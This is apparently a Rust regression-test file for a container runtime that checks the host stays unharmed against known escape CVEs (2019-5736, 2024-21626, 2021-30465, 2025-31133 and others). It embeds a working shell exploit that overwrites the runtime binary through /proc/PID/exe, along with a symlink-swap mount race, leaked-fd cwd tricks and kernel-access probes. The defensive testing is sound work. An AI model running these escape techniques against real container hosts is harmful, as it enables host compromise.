//! Escape regression tests: a hostile container (or a hostile rootfs) tries one of the known
//! runtime escapes (runc, crun and youki each shipped some); the test asserts the host is
//! unharmed. Each test cleans up even when it fails (the [`Runtime`] and [`Bundle`] drops, plus
//! the guards below).

use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use coracle_conformance::{
    binary, host_mounts_mentioning, parse_mountinfo, run_script, skip_for_runc, spawn_to_files,
    unique, Bundle, Output, Runtime,
};
use serde_json::json;

/// A private copy of the binary under test, for the tests whose attack (if it worked) would
/// overwrite the runtime binary: only the copy can be harmed. Removed on drop.
struct BinCopy {
    dir: PathBuf,
    path: PathBuf,
    original: Vec<u8>,
}

impl BinCopy {
    fn new() -> BinCopy {
        let dir = std::env::temp_dir().join(unique("coracle-test-bincopy"));
        fs::create_dir_all(&dir).expect("test setup");
        let path = dir.join("coracle");
        fs::copy(binary(), &path).expect("test setup");
        let original = fs::read(&path).expect("test setup");
        // Another thread's fork may briefly hold the copy's write fd (ETXTBSY): wait it out.
        for _ in 0..100 {
            match Command::new(&path)
                .arg("--version")
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .status()
            {
                Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => {
                    thread::sleep(Duration::from_millis(20))
                }
                _ => break,
            }
        }
        BinCopy {
            dir,
            path,
            original,
        }
    }

    /// Panics when the copy differs from what was copied.
    #[track_caller]
    fn assert_unchanged(&self, context: &str) {
        let now = fs::read(&self.path).unwrap_or_default();
        assert!(
            now == self.original,
            "the runtime binary was modified by the container ({} bytes, was {}):\n{context}",
            now.len(),
            self.original.len()
        );
    }

    /// Runs the copy with `rt`'s global flags and `args`; output to `<work>/<stem>.out|err`.
    fn run(&self, rt: &Runtime, args: &[&str], work: &Path, stem: &str) -> Output {
        let mut cmd = Command::new(&self.path);
        cmd.args(rt.global_args()).args(args).stdin(Stdio::null());
        let describe = format!("{} {}", self.path.display(), args.join(" "));
        spawn_to_files(&mut cmd, work, stem, &describe)
    }
}

impl Drop for BinCopy {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.dir);
    }
}

/// A temp directory removed on drop.
struct TempDir(PathBuf);

impl TempDir {
    fn new(prefix: &str) -> TempDir {
        let d = std::env::temp_dir().join(unique(prefix));
        fs::create_dir_all(&d).expect("test setup");
        TempDir(d)
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        coracle_conformance::remove_tree_unless_mounted(&self.0);
    }
}

/// Polls `file` until it contains `needle` (panics after `timeout`), returning its text.
#[track_caller]
fn wait_for_text(file: &Path, needle: &str, timeout: Duration) -> String {
    let start = Instant::now();
    loop {
        let text = fs::read_to_string(file).unwrap_or_default();
        if text.contains(needle) {
            return text;
        }
        assert!(
            start.elapsed() < timeout,
            "{} did not show {needle:?} within {timeout:?}:\n{text}",
            file.display()
        );
        thread::sleep(Duration::from_millis(20));
    }
}

/// The attacker of CVE-2019-5736, run as the container's init: until /tmp/stop exists it polls
/// every process of the container for a readable `/proc/PID/exe` that is not the container's
/// own busybox and keeps it open as fd 5; then it releases whatever waits on /tmp/logfifo and,
/// if it got an fd, tries for 4 s to reopen it for writing (the binary is busy while a runtime
/// process runs it) and overwrite it.
const EXE_ATTACKER: &str = r#"
mkfifo /tmp/logfifo
echo READY
got=
while [ -z "$got" ] && [ ! -e /tmp/stop ]; do
  for d in /proc/[0-9]*; do
    [ "$d" = /proc/1 ] && continue
    command exec 5<"$d/exe" 2>/dev/null || continue
    t=$(readlink /proc/self/fd/5)
    case "$t" in
      /bin/busybox|"") command exec 5<&- ; continue ;;
    esac
    got="${d#/proc/} $t"
    break
  done
done
cat /tmp/logfifo >/dev/null &
if [ -z "$got" ]; then
  echo GOT=none
else
  echo "GOT=$got"
  i=0
  while [ $i -lt 400 ]; do
    if command exec 6>/proc/self/fd/5 2>/dev/null; then
      echo '#!/bin/sh' >&6
      echo 'echo PWNED' >&6
      echo WROTE=yes
      break
    fi
    i=$((i+1))
    sleep 0.01
  done
fi
echo DONE
exec sleep 1000
"#;

/// Starts the attacker container with the binary copy; returns its id and stdout file.
fn start_attacker(rt: &Runtime, bin: &BinCopy, b: &mut Bundle, work: &Path) -> (String, PathBuf) {
    b.sh(EXE_ATTACKER);
    b.write();
    let id = rt.new_id();
    bin.run(
        rt,
        &["create", "--bundle", b.path_str(), &id],
        work,
        "create",
    )
    .ok();
    bin.run(rt, &["start", &id], work, "start").ok();
    let out = work.join("create.out");
    wait_for_text(&out, "READY", Duration::from_secs(10));
    (id, out)
}

/// Tells the attacker to stop searching, waits for it, and asserts the runtime binary is
/// unchanged and was never reopened for writing; with `no_open`, also that the attacker could
/// not even open a runtime process's /proc/PID/exe (reading the binary is no harm in itself, so
/// a runtime that runs from a read-only or sealed copy passes without it).
#[track_caller]
fn stop_and_check_attacker(
    bin: &BinCopy,
    b: &Bundle,
    out_file: &Path,
    no_open: bool,
    context: &str,
) {
    let _ = fs::write(b.rootfs().join("tmp/stop"), "");
    let text = wait_for_text(out_file, "DONE", Duration::from_secs(20));
    bin.assert_unchanged(&format!("{context}\ncontainer output:\n{text}"));
    assert!(
        !text.contains("WROTE=yes"),
        "the container reopened the runtime binary for writing:\n{context}\n{text}"
    );
    if no_open {
        assert!(
            text.contains("GOT=none"),
            "the container opened the exe of a runtime process:\n{context}\n{text}"
        );
    }
}

/// Runs `sh -c 'sleep 0.05'` in the container with `exec`, `n` times, while the attacker polls
/// (`out_file`); stops early when the attacker reports it got something.
fn exec_many(rt: &Runtime, bin: &BinCopy, id: &str, work: &Path, out_file: &Path, n: usize) {
    for i in 0..n {
        if fs::read_to_string(out_file)
            .unwrap_or_default()
            .contains("GOT=")
        {
            return;
        }
        bin.run(
            rt,
            &["exec", id, "sh", "-c", "sleep 0.05"],
            work,
            &format!("exec-{i}"),
        )
        .ok();
    }
}

/// CVE-2019-5736, path 1: the process `coracle exec` makes must never show the runtime binary
/// through /proc/PID/exe to the container while it joins it (it is non-dumpable until execve).
#[test]
fn cve_2019_5736_exec_process_exe_is_not_reachable() {
    let bin = BinCopy::new();
    let rt = Runtime::new();
    let work = TempDir::new("coracle-test-5736a");
    let mut b = Bundle::new();
    let (id, out_file) = start_attacker(&rt, &bin, &mut b, &work.0);
    exec_many(&rt, &bin, &id, &work.0, &out_file, 30);
    stop_and_check_attacker(&bin, &b, &out_file, true, "30 execs of sh");
    rt.delete_force(&id).ok();
}

/// Copies the host's dynamic loader and the libraries the binary needs into the rootfs, so the
/// runtime binary can run inside the container (as it could in any glibc-based image).
fn copy_runtime_libs(rootfs: &Path) {
    let out = Command::new("ldd")
        .arg(binary())
        .output()
        .expect("test setup");
    let text = String::from_utf8_lossy(&out.stdout);
    for line in text.lines() {
        let path = match line.split_once("=>") {
            Some((_, right)) => right.split_whitespace().next(),
            None => line.split_whitespace().next(),
        };
        let Some(path) = path.filter(|p| p.starts_with('/')) else {
            continue;
        };
        let dest = rootfs.join(path.trim_start_matches('/'));
        fs::create_dir_all(dest.parent().expect("test setup")).expect("test setup");
        fs::copy(path, &dest).unwrap_or_else(|e| panic!("copy {path}: {e}"));
    }
}

/// CVE-2019-5736, path 2 (the original exploit): `coracle exec ID /proc/self/exe` makes the
/// container run the runtime binary itself (the exec'ed process resolves /proc/self/exe to the
/// runtime's binary), which is then dumpable; the container opens its /proc/PID/exe and, once no
/// runtime process runs any more, reopens it for writing. The in-container runtime is held on a
/// FIFO (its `--log`, opened on error) so the race is deterministic.
#[test]
fn cve_2019_5736_runtime_binary_run_inside_the_container() {
    let bin = BinCopy::new();
    let rt = Runtime::new();
    let work = TempDir::new("coracle-test-5736b");
    let mut b = Bundle::new();
    copy_runtime_libs(&b.rootfs());
    let (id, out_file) = start_attacker(&rt, &bin, &mut b, &work.0);
    let exec = thread::scope(|s| {
        let exec = s.spawn(|| {
            bin.run(
                &rt,
                &[
                    "exec",
                    &id,
                    "/proc/self/exe",
                    "--log",
                    "/tmp/logfifo",
                    "--root",
                    "/tmp/attack-root",
                    "state",
                    "nosuch",
                ],
                &work.0,
                "exec",
            )
        });
        // Give the attacker 5 s to find the process, then stop it either way.
        let start = Instant::now();
        while start.elapsed() < Duration::from_secs(5)
            && !fs::read_to_string(&out_file)
                .unwrap_or_default()
                .contains("GOT=")
        {
            thread::sleep(Duration::from_millis(20));
        }
        let _ = fs::write(b.rootfs().join("tmp/stop"), "");
        exec.join().unwrap()
    });
    stop_and_check_attacker(
        &bin,
        &b,
        &out_file,
        false,
        &format!("exec of /proc/self/exe:\n{exec}"),
    );
    rt.delete_force(&id).ok();
}

/// CVE-2019-5736 with CAP_SYS_PTRACE in the container: non-dumpable alone does not stop a
/// process holding CAP_SYS_PTRACE in the host user namespace from opening /proc/PID/exe.
#[test]
fn cve_2019_5736_exec_with_cap_sys_ptrace() {
    let bin = BinCopy::new();
    let rt = Runtime::new();
    let work = TempDir::new("coracle-test-5736c");
    let mut b = Bundle::new();
    let caps = [
        "CAP_AUDIT_WRITE",
        "CAP_KILL",
        "CAP_NET_BIND_SERVICE",
        "CAP_SYS_PTRACE",
        "CAP_DAC_OVERRIDE",
    ];
    for set in ["bounding", "effective", "permitted"] {
        b.cap_set(set, &caps);
    }
    let (id, out_file) = start_attacker(&rt, &bin, &mut b, &work.0);
    exec_many(&rt, &bin, &id, &work.0, &out_file, 30);
    stop_and_check_attacker(
        &bin,
        &b,
        &out_file,
        false,
        "30 execs of sh with CAP_SYS_PTRACE",
    );
    rt.delete_force(&id).ok();
}

/// CVE-2019-5736 when CAP_SYS_PTRACE came with an earlier `exec`: the container's init has no
/// CAP_SYS_PTRACE, but a process exec'ed with `--cap CAP_SYS_PTRACE` attacks every later exec.
#[test]
fn cve_2019_5736_exec_after_an_exec_granted_cap_sys_ptrace() {
    let bin = BinCopy::new();
    let rt = Runtime::new();
    let work = TempDir::new("coracle-test-5736d");
    let mut b = Bundle::new();
    b.sh("exec sleep 1000");
    fs::write(b.rootfs().join("attack.sh"), EXE_ATTACKER).expect("test setup");
    b.write();
    let id = rt.new_id();
    bin.run(
        &rt,
        &["run", "-d", "--bundle", b.path_str(), &id],
        &work.0,
        "run",
    )
    .ok();
    let attacker = bin.run(
        &rt,
        &[
            "exec",
            "-d",
            "--cap",
            "CAP_SYS_PTRACE",
            &id,
            "sh",
            "/attack.sh",
        ],
        &work.0,
        "attacker",
    );
    attacker.ok();
    let out_file = work.0.join("attacker.out");
    wait_for_text(&out_file, "READY", Duration::from_secs(10));
    exec_many(&rt, &bin, &id, &work.0, &out_file, 30);
    stop_and_check_attacker(
        &bin,
        &b,
        &out_file,
        false,
        "30 execs of sh after an exec with CAP_SYS_PTRACE",
    );
    rt.delete_force(&id).ok();
}

/// Runs the runtime through `sh -c 'exec N<DIR; exec "$@"'`, so it inherits fd `fd` open on the
/// host directory `dir`.
fn run_with_inherited_dir_fd(rt: &Runtime, fd: u32, dir: &str, args: &[&str]) -> Output {
    let mut cmd = Command::new("/bin/sh");
    let mut full: Vec<String> = rt.global_args();
    full.extend(args.iter().map(|s| s.to_string()));
    cmd.arg("-c")
        .arg(format!("exec {fd}<\"$0\"; exec \"$@\""))
        .arg(dir)
        .arg(rt.bin())
        .args(&full)
        .stdin(Stdio::null());
    let work = TempDir::new("coracle-test-21626");
    spawn_to_files(
        &mut cmd,
        &work.0,
        "run",
        &format!("(fd {fd} -> {dir}) {}", full.join(" ")),
    )
}

/// The marker a host directory holds, so the test can tell whether the container reached it.
fn host_dir_with_marker(tag: &str) -> TempDir {
    let d = TempDir::new(tag);
    fs::write(d.0.join("HOST-SECRET-MARKER"), "secret").expect("test setup");
    d
}

/// CVE-2024-21626: no fd of the runtime (nor an inherited one) reaches the container, and a
/// `process.cwd` of /proc/self/fd/N is refused or lands inside the container.
#[test]
fn cve_2024_21626_cwd_through_a_leaked_fd() {
    let host = host_dir_with_marker("coracle-test-21626-host");
    let host_str = host.0.to_str().unwrap().to_string();
    for n in 3..=12u32 {
        let rt = Runtime::new();
        let mut b = Bundle::new();
        b.sh("echo PWD=$(pwd); ls -a; echo FDS=$(ls /proc/self/fd | tr '\\n' ' ')");
        b.cwd(&format!("/proc/self/fd/{n}"));
        b.write();
        let id = rt.new_id();
        let out =
            run_with_inherited_dir_fd(&rt, 9, &host_str, &["run", "--bundle", b.path_str(), &id]);
        assert!(!out.timed_out, "\n{out}");
        assert!(
            !out.stdout.contains("HOST-SECRET-MARKER") && !out.stdout.contains("(unreachable)"),
            "cwd /proc/self/fd/{n} reached a host directory:\n{out}"
        );
        if out.success() {
            let pwd = out.expect_field("PWD");
            eprintln!("cwd /proc/self/fd/{n}: ran in {pwd}");
            assert!(pwd.starts_with('/'), "cwd outside the root: {pwd}\n{out}");
        } else {
            eprintln!("cwd /proc/self/fd/{n}: refused: {}", out.stderr.trim());
            out.stderr_mentions(&["cwd"]);
        }
        assert!(!rt.state_dir_exists(&id), "\n{out}");
    }
}

/// CVE-2024-21626 with a preserved fd: fd 3 is a host directory passed on purpose
/// (`--preserve-fds 1`) and `process.cwd` is /proc/self/fd/3: the final cwd would lie outside
/// the container's root, so the runtime must refuse it.
#[test]
fn cve_2024_21626_cwd_through_a_preserved_directory_fd() {
    let host = host_dir_with_marker("coracle-test-21626-pres");
    let host_str = host.0.to_str().unwrap().to_string();
    let rt = Runtime::new();
    let mut b = Bundle::new();
    b.sh("echo PWD=$(pwd); ls -a");
    b.cwd("/proc/self/fd/3");
    b.write();
    let id = rt.new_id();
    let out = run_with_inherited_dir_fd(
        &rt,
        3,
        &host_str,
        &["run", "--preserve-fds", "1", "--bundle", b.path_str(), &id],
    );
    eprintln!(
        "preserved dir fd as cwd: exit {:?}: {}",
        out.code,
        out.stderr.trim()
    );
    assert!(
        !out.stdout.contains("HOST-SECRET-MARKER"),
        "the container started in a host directory:\n{out}"
    );
    out.fails().stderr_mentions(&["cwd"]);
    assert!(!rt.state_dir_exists(&id), "\n{out}");
}

/// CVE-2024-21626 for exec: `exec --cwd /proc/self/fd/N` never lands outside the container.
#[test]
fn cve_2024_21626_exec_cwd_through_a_leaked_fd() {
    let host = host_dir_with_marker("coracle-test-21626-exec");
    let host_str = host.0.to_str().unwrap().to_string();
    let rt = Runtime::new();
    let mut b = Bundle::new();
    b.sh("sleep 1000");
    let id = rt.new_id();
    rt.create(&id, &b).ok();
    rt.start(&id).ok();
    for n in 3..=12u32 {
        let cwd = format!("/proc/self/fd/{n}");
        let out = run_with_inherited_dir_fd(
            &rt,
            9,
            &host_str,
            &[
                "exec",
                "--cwd",
                &cwd,
                &id,
                "sh",
                "-c",
                "echo PWD=$(pwd); ls -a",
            ],
        );
        assert!(!out.timed_out, "\n{out}");
        assert!(
            !out.stdout.contains("HOST-SECRET-MARKER") && !out.stdout.contains("(unreachable)"),
            "exec --cwd {cwd} reached a host directory:\n{out}"
        );
        if out.success() {
            let pwd = out.expect_field("PWD");
            assert!(pwd.starts_with('/'), "cwd outside the root: {pwd}\n{out}");
        }
    }
    rt.delete_force(&id).ok();
}

/// CVE-2024-21626: an inherited fd to a host directory (here /sys/fs/cgroup, as in the
/// advisory) is not open in the container, for the init and for an exec'ed process.
#[test]
fn cve_2024_21626_inherited_host_fd_is_closed() {
    let rt = Runtime::new();
    let mut b = Bundle::new();
    b.sh("ls -l /proc/self/fd; sleep 1000");
    b.write();
    let id = rt.new_id();
    rt.track(&id);
    let work = TempDir::new("coracle-test-21626-fds");
    let out = run_with_inherited_dir_fd(
        &rt,
        7,
        "/sys/fs/cgroup",
        &["run", "--detach", "--bundle", b.path_str(), &id],
    );
    out.ok();
    let exec = run_with_inherited_dir_fd(
        &rt,
        7,
        "/sys/fs/cgroup",
        &["exec", &id, "ls", "-l", "/proc/self/fd"],
    );
    exec.ok();
    for text in [&out.stdout, &exec.stdout] {
        assert!(
            !text.contains("cgroup") && !text.contains(" 7 -> "),
            "a host fd reached the container:\n{out}\n{exec}"
        );
    }
    drop(work);
    rt.delete_force(&id).ok();
}

/// CVE-2021-30465: a mount destination that is (in the rootfs) a symlink to a host path lands
/// inside the rootfs (the symlink resolved in the root), never on the host path.
#[test]
fn cve_2021_30465_symlinked_mount_destination_stays_in_the_rootfs() {
    let host = host_dir_with_marker("coracle-test-30465-host");
    let source = TempDir::new("coracle-test-30465-src");
    fs::write(source.0.join("FROM-SOURCE"), "x").unwrap();
    let host_abs = host.0.to_str().unwrap().to_string();
    let mut b = Bundle::new();
    let rootfs = b.rootfs();
    // Absolute and relative symlinks both pointing at the host directory.
    symlink(&host_abs, rootfs.join("mnt/abs")).unwrap();
    let ups = "../".repeat(20);
    symlink(
        format!("{ups}{}", host_abs.trim_start_matches('/')),
        rootfs.join("mnt/rel"),
    )
    .unwrap();
    b.mount("/mnt/abs", "bind", source.0.to_str().unwrap(), &["bind"]);
    b.mount("/mnt/rel/sub", "tmpfs", "tmpfs", &["size=1m"]);
    b.sh(&format!(
        "ls {host_abs}; echo ---; cat /proc/self/mountinfo; echo MARK > /mnt/abs/written-inside"
    ));
    let rt = Runtime::new();
    let before = host_mounts_mentioning(&host.0);
    let out = rt.run(&b);
    // Whatever happened, the host directory is untouched and has no mount on it.
    let after = host_mounts_mentioning(&host.0);
    assert_eq!(before, after, "a mount appeared on the host path:\n{out}");
    let names: Vec<String> = fs::read_dir(&host.0)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(
        names,
        vec!["HOST-SECRET-MARKER"],
        "host dir changed:\n{out}"
    );
    assert!(!out.stdout.contains("HOST-SECRET-MARKER"), "\n{out}");
    eprintln!(
        "symlinked destinations: exit {:?}: {}",
        out.code,
        out.stderr.trim()
    );
    if out.success() {
        // The mounts are at the in-root resolution of the symlinks.
        let mounts = parse_mountinfo(&out.stdout);
        let at_host_path = mounts
            .iter()
            .filter(|m| m.mount_point.starts_with(&host_abs))
            .count();
        assert!(
            at_host_path >= 1,
            "mounts not where the symlinks point in the root:\n{out}"
        );
        assert!(out.stdout.contains("FROM-SOURCE"), "\n{out}");
        assert!(
            rootfs.join(host_abs.trim_start_matches('/')).is_dir(),
            "\n{out}"
        );
    } else {
        out.stderr_mentions(&["/mnt/abs", "/mnt/rel", "symlink", "mount"]);
    }
}

/// CVE-2021-30465, the race: while containers are created, the host flips a mount destination
/// in the rootfs between a directory and a symlink to a host directory. No mount ever lands on
/// the host directory and it never changes.
#[test]
fn cve_2021_30465_swapped_mount_destination_race() {
    let host = host_dir_with_marker("coracle-test-30465-race");
    let host_abs = host.0.to_str().unwrap().to_string();
    let mut b = Bundle::new();
    let target = b.rootfs().join("mnt/swap");
    fs::create_dir_all(&target).unwrap();
    b.mount("/mnt/swap", "tmpfs", "tmpfs", &["size=1m"]);
    b.sh("touch /mnt/swap/written-inside 2>/dev/null; true");
    let rt = Runtime::new();
    let stop = std::sync::atomic::AtomicBool::new(false);
    thread::scope(|s| {
        let flipper = s.spawn(|| {
            let tmp = target.with_file_name("swap.tmp");
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let _ = fs::remove_file(&tmp);
                if symlink(&host_abs, &tmp).is_ok() {
                    let _ = fs::remove_dir(&target);
                    let _ = fs::rename(&tmp, &target);
                }
                thread::sleep(Duration::from_micros(200));
                let _ = fs::remove_file(&target);
                let _ = fs::create_dir(&target);
                thread::sleep(Duration::from_micros(200));
            }
        });
        for _ in 0..20 {
            let out = rt.run(&b);
            assert!(!out.timed_out, "\n{out}");
            assert!(host_mounts_mentioning(&host.0).is_empty(), "\n{out}");
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        flipper.join().unwrap();
    });
    let names: Vec<String> = fs::read_dir(&host.0)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names, vec!["HOST-SECRET-MARKER"], "host dir changed");
}

/// CVE-2022-29162: inheritable and ambient capabilities are exactly the config's (none when
/// the config has none), for the init and for `exec` (also `exec --cap`).
#[test]
fn cve_2022_29162_no_inheritable_or_ambient_beyond_the_config() {
    use coracle_conformance::cap_mask;
    let caps = [
        "CAP_KILL",
        "CAP_NET_BIND_SERVICE",
        "CAP_AUDIT_WRITE",
        "CAP_CHOWN",
    ];
    let script =
        "grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status | tr -d '\\t' | sed 's/:/=/'";
    // 1. No inheritable or ambient set in the config: both empty.
    let out = run_script(
        |b| {
            for set in ["bounding", "effective", "permitted"] {
                b.cap_set(set, &caps);
            }
            b.remove_cap_set("inheritable").remove_cap_set("ambient");
        },
        script,
    );
    assert_eq!(out.expect_field("CapInh"), cap_mask(&[]), "\n{out}");
    assert_eq!(out.expect_field("CapAmb"), cap_mask(&[]), "\n{out}");
    assert_eq!(out.expect_field("CapBnd"), cap_mask(&caps), "\n{out}");
    // 2. Exactly the configured ones, for a non-root user too.
    let inh = ["CAP_KILL", "CAP_CHOWN"];
    let amb = ["CAP_KILL"];
    for (uid, gid) in [(0, 0), (1000, 1000)] {
        let out = run_script(
            |b| {
                for set in ["bounding", "effective", "permitted"] {
                    b.cap_set(set, &caps);
                }
                b.cap_set("inheritable", &inh).cap_set("ambient", &amb);
                b.user(uid, gid);
            },
            script,
        );
        assert_eq!(
            out.expect_field("CapInh"),
            cap_mask(&inh),
            "uid {uid}\n{out}"
        );
        assert_eq!(
            out.expect_field("CapAmb"),
            cap_mask(&amb),
            "uid {uid}\n{out}"
        );
    }
    // 3. exec, plain and with --cap: the inheritable set stays the config's (empty).
    let rt = Runtime::new();
    let mut b = Bundle::new();
    for set in ["bounding", "effective", "permitted"] {
        b.cap_set(set, &caps);
    }
    b.remove_cap_set("inheritable").remove_cap_set("ambient");
    b.sh("sleep 1000");
    let id = rt.new_id();
    rt.create(&id, &b).ok();
    rt.start(&id).ok();
    for extra in [&[][..], &["--cap", "CAP_SYS_CHROOT"][..]] {
        let mut args = vec!["exec"];
        args.extend_from_slice(extra);
        args.extend_from_slice(&[&id, "sh", "-c", script]);
        let out = rt.exec(&args);
        out.ok();
        assert_eq!(
            out.expect_field("CapInh"),
            cap_mask(&[]),
            "{extra:?}\n{out}"
        );
        assert_eq!(
            out.expect_field("CapAmb"),
            cap_mask(&[]),
            "{extra:?}\n{out}"
        );
    }
    rt.delete_force(&id).ok();
}

/// CVE-2025-31133: the rootfs's /dev/null is a symlink (here to a namespaced, harmless proc
/// file) and there is no /dev tmpfs: masking must not bind the symlink's target over the masked
/// paths. Either create refuses, or every masked file is the real 1:3 character device.
#[test]
fn cve_2025_31133_dev_null_symlink_before_masked_paths() {
    let mut b = Bundle::new();
    symlink("/proc/sys/kernel/hostname", b.rootfs().join("dev/null")).unwrap();
    if let Some(m) = b.config["mounts"].as_array_mut() {
        m.retain(|m| !m["destination"].as_str().unwrap_or("").starts_with("/dev"));
    }
    b.masked_paths(&["/proc/keys", "/proc/timer_list"]);
    b.sh(
        "for p in /proc/keys /proc/timer_list; do \
         echo MASK$p=$(stat -c '%F %t:%T' $p); echo CONTENT$p=$(head -c 64 $p | tr -d '\\n'); done; \
         echo HOST=$(hostname)",
    );
    let rt = Runtime::new();
    let out = rt.run(&b);
    assert!(!out.timed_out, "\n{out}");
    eprintln!(
        "/dev/null symlink: exit {:?}: {}",
        out.code,
        out.stderr.trim()
    );
    if !out.success() {
        out.stderr_mentions(&["/dev/null", "null", "device", "mask"]);
        return;
    }
    for p in ["/proc/keys", "/proc/timer_list"] {
        assert_eq!(
            out.expect_field(&format!("MASK{p}")),
            "character special file 1:3",
            "{p} is not masked by /dev/null:\n{out}"
        );
        assert_eq!(out.expect_field(&format!("CONTENT{p}")), "", "\n{out}");
    }
    assert_eq!(out.expect_field("HOST"), "coracle", "\n{out}");
}

/// CVE-2025-52565: the rootfs's /dev/console is a symlink (there is no /dev tmpfs) to a
/// namespaced proc file; the console bind must land on /dev/console itself (or create refuses),
/// never on the symlink's target.
#[test]
fn cve_2025_52565_dev_console_symlink() {
    let mut b = Bundle::new();
    symlink("/proc/sys/kernel/hostname", b.rootfs().join("dev/console")).expect("symlink");
    if let Some(m) = b.config["mounts"].as_array_mut() {
        m.retain(|m| m["destination"] != "/dev");
    }
    b.config["process"]["terminal"] = json!(true);
    b.sh("echo CONSOLE=$(stat -c '%F' /dev/console); \
         echo TARGET=$(stat -c '%F' /proc/sys/kernel/hostname); echo HOST=$(hostname)");
    let rt = Runtime::new();
    let out = rt.run(&b);
    eprintln!(
        "/dev/console symlink: exit {:?}: {}",
        out.code,
        out.stderr.trim()
    );
    assert!(!out.timed_out, "\n{out}");
    if !out.success() {
        out.stderr_mentions(&["console"]);
        return;
    }
    assert_eq!(
        out.expect_field("TARGET"),
        "regular empty file",
        "the console was bound over the symlink's target:\n{out}"
    );
    // The console is bound onto /dev/console (a character device then), or the runtime left
    // the rootfs's symlink alone; either way nothing was mounted on its target.
    let console = out.expect_field("CONSOLE");
    assert!(
        console == "character special file" || console == "symbolic link",
        "/dev/console is a {console}:\n{out}"
    );
    assert_eq!(out.expect_field("HOST"), "coracle", "\n{out}");
}

/// CVE-2025-52881 (static form): a tmpfs mounted over /proc/sys by the config must not receive
/// the sysctl writes the runtime makes (they go through fds checked to be on procfs); create
/// either refuses or writes the real sysctl.
#[test]
fn cve_2025_52881_sysctl_writes_never_land_on_a_fake_proc() {
    let mut b = Bundle::new();
    b.mount("/proc/sys", "tmpfs", "tmpfs", &["size=1m"]);
    b.config["linux"]["sysctl"] = json!({"kernel.domainname": "coracle-test-domain"});
    b.sh("echo FAKE=$(cat /proc/sys/kernel/domainname 2>&1); echo REAL=$(domainname 2>&1)");
    let rt = Runtime::new();
    let out = rt.run(&b);
    assert!(!out.timed_out, "\n{out}");
    eprintln!(
        "sysctl under a fake /proc/sys: exit {:?}: {}",
        out.code,
        out.stderr.trim()
    );
    if out.success() {
        assert!(
            !out.expect_field("FAKE").contains("coracle-test-domain"),
            "the sysctl was written to the tmpfs over /proc/sys:\n{out}"
        );
    } else {
        out.stderr_mentions(&["proc", "sysctl"]);
    }
}

/// A container cannot trigger sysrq, load a module, mount, make and use a block device, write
/// sysfs, or see host processes.
#[test]
fn container_cannot_reach_the_host_kernel() {
    // A host process the container must not see.
    let mut sleeper = Command::new("sleep")
        .arg("1000")
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let host_pid = sleeper.id();
    let script = format!(
        "echo h > /proc/sysrq-trigger 2>/dev/null && echo SYSRQ=written || echo SYSRQ=denied; \
         head -c 1024 /bin/busybox > /tmp/m.ko; \
         insmod /tmp/m.ko 2>/tmp/insmod.err && echo INSMOD=ok || echo INSMOD=denied; \
         echo INSMOD_ERR=$(cat /tmp/insmod.err); \
         mount -t tmpfs none /mnt 2>/dev/null && echo MOUNT=ok || echo MOUNT=denied; \
         mount --bind /tmp /mnt 2>/dev/null && echo BIND=ok || echo BIND=denied; \
         mknod /tmp/sda b 8 0 2>/dev/null && head -c 1 /tmp/sda >/dev/null 2>&1 && echo BLK=read || echo BLK=denied; \
         echo 1 > /sys/kernel/profiling 2>/dev/null && echo SYS=written || echo SYS=denied; \
         echo HOSTPID=$(cat /proc/{host_pid}/cmdline 2>/dev/null | tr '\\0' ' '); \
         echo NPROC=$(ls -d /proc/[0-9]* | wc -l); \
         echo CAPBND=$(grep CapBnd /proc/self/status | cut -f2)"
    );
    let out = run_script(|_| {}, &script);
    let _ = sleeper.kill();
    let _ = sleeper.wait();
    assert_eq!(out.expect_field("SYSRQ"), "denied", "\n{out}");
    assert_eq!(out.expect_field("INSMOD"), "denied", "\n{out}");
    assert_eq!(out.expect_field("MOUNT"), "denied", "\n{out}");
    assert_eq!(out.expect_field("BIND"), "denied", "\n{out}");
    assert_eq!(out.expect_field("BLK"), "denied", "\n{out}");
    assert_eq!(out.expect_field("SYS"), "denied", "\n{out}");
    assert!(
        !out.expect_field("HOSTPID").contains("sleep 1000"),
        "host process visible:\n{out}"
    );
    let nproc: u32 = out.expect_field("NPROC").parse().unwrap();
    assert!(nproc <= 6, "host processes visible:\n{out}");
    // No CAP_SYS_MODULE (16), CAP_SYS_ADMIN (21), CAP_SYS_RAWIO (17), CAP_MKNOD (27).
    let bnd = u64::from_str_radix(&out.expect_field("CAPBND"), 16).unwrap();
    for bit in [16, 17, 21, 27] {
        assert_eq!(
            bnd & (1 << bit),
            0,
            "capability {bit} in the bounding set\n{out}"
        );
    }
}

/// Even with CAP_SYS_ADMIN the default read-only /proc paths stay read-only and the masked
/// ones masked (the container cannot just remount them).
#[test]
fn readonly_and_masked_proc_paths_hold_with_default_config() {
    if skip_for_runc("same behaviour, but kept to coracle for speed") {
        return;
    }
    let out = run_script(
        |_| {},
        "echo h > /proc/sysrq-trigger 2>/dev/null && echo SYSRQ=w || echo SYSRQ=ro; \
         echo 1 > /proc/sys/kernel/printk_ratelimit 2>/dev/null && echo SYSCTL=w || echo SYSCTL=ro; \
         echo KEYS=$(stat -c '%t:%T' /proc/keys)",
    );
    assert_eq!(out.expect_field("SYSRQ"), "ro", "\n{out}");
    assert_eq!(out.expect_field("SYSCTL"), "ro", "\n{out}");
    assert_eq!(out.expect_field("KEYS"), "1:3", "\n{out}");
}

/// CVE-2019-5736 by `create`/`run`: the container's program is the runtime binary itself,
/// through /proc/self/exe or as the interpreter of a `#!` script. coracle refuses both before
/// running anything (runc 1.1 instead runs a sealed copy of itself: skipped there).
#[test]
fn cve_2019_5736_program_is_the_runtime_binary() {
    if coracle_conformance::is_runc() {
        eprintln!("skipped: runc runs a cloned binary instead of refusing");
        return;
    }
    let rt = Runtime::new();
    let mut b = Bundle::new();
    b.args(&["/proc/self/exe", "--version"]);
    let out = rt.run(&b);
    out.fails()
